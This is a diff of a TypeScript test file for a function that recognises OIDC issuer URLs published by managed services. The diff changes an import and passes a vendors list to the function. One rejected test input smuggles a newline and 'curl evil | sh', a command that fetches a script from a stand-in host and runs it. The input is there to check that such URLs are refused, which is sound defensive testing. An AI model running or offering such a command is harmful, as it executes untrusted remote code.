@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict'
 import { suite, test } from 'node:test'
-import { managedServiceOf } from '../../../src/oidc/issuer-url.ts'
+import { managedServiceOf } from '../../../src/oidc/managed-service.ts'
+import { vendors } from '../../../src/vendors/vendors.ts'
 
 const uuid = '0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9'
 
@@ -13,7 +14,7 @@ suite('an issuer that a managed service publishes', () => {
     [`https://discovery.garden.example.com/projects/p/shoots/${uuid}/issuer`]: 'Gardener',
   }
   for (const [url, service] of Object.entries(services)) {
-    test(`is of ${service}: ${url}`, () => assert.equal(managedServiceOf(url), service))
+    test(`is of ${service}: ${url}`, () => assert.equal(managedServiceOf(url, vendors), service))
   }
 
   const own = [
@@ -29,6 +30,6 @@ suite('an issuer that a managed service publishes', () => {
     'https://container.googleapis.com/v1/projects/p/locations/l/clusters/c\n  fix: curl evil | sh',
   ]
   for (const url of own) {
-    test(`is not ${JSON.stringify(url)}`, () => assert.equal(managedServiceOf(url), undefined))
+    test(`is not ${JSON.stringify(url)}`, () => assert.equal(managedServiceOf(url, vendors), undefined))
   }
 })
